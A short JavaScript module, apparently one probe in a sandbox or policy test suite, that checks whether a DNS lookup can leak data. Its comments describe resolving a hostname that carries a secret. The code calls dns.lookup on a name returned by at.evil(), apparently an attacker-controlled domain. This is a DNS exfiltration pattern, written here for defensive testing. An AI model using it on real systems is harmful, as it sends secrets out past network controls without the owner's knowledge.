// dns.lookup
// Resolves a name that carries a secret, by getaddrinfo.
// policy: allowed-names
// audit: dnsQuery
// proof: arrival
'use strict';
const dns = require('dns');

module.exports = async (at) => at.called((done) => dns.lookup(at.evil(), done));
